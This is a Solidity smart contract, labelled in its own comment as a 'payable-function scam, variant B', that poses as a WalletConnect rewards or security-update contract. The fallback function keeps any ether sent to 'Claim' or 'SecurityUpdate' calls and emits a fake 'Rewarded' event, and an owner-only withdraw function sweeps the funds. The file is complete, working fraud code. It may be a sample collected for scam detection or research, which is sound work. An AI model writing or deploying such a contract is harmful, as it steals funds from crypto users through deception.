// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

/// Payable-function scam, variant B: "Claim"/"SecurityUpdate" selectors all land in the
/// fallback, which keeps the ether; the owner sweeps it in batches.
contract WalletConnectRewards {
    address public owner;
    uint256 public participants;

    event Rewarded(address indexed user, uint256 paid);

    constructor() {
        owner = msg.sender;
    }

    fallback() external payable {
        require(msg.value > 0);
        participants += 1;
        emit Rewarded(msg.sender, msg.value);
    }

    receive() external payable {
        participants += 1;
    }

    function withdraw() external {
        require(msg.sender == owner);
        msg.sender.transfer(address(this).balance);
    }
}
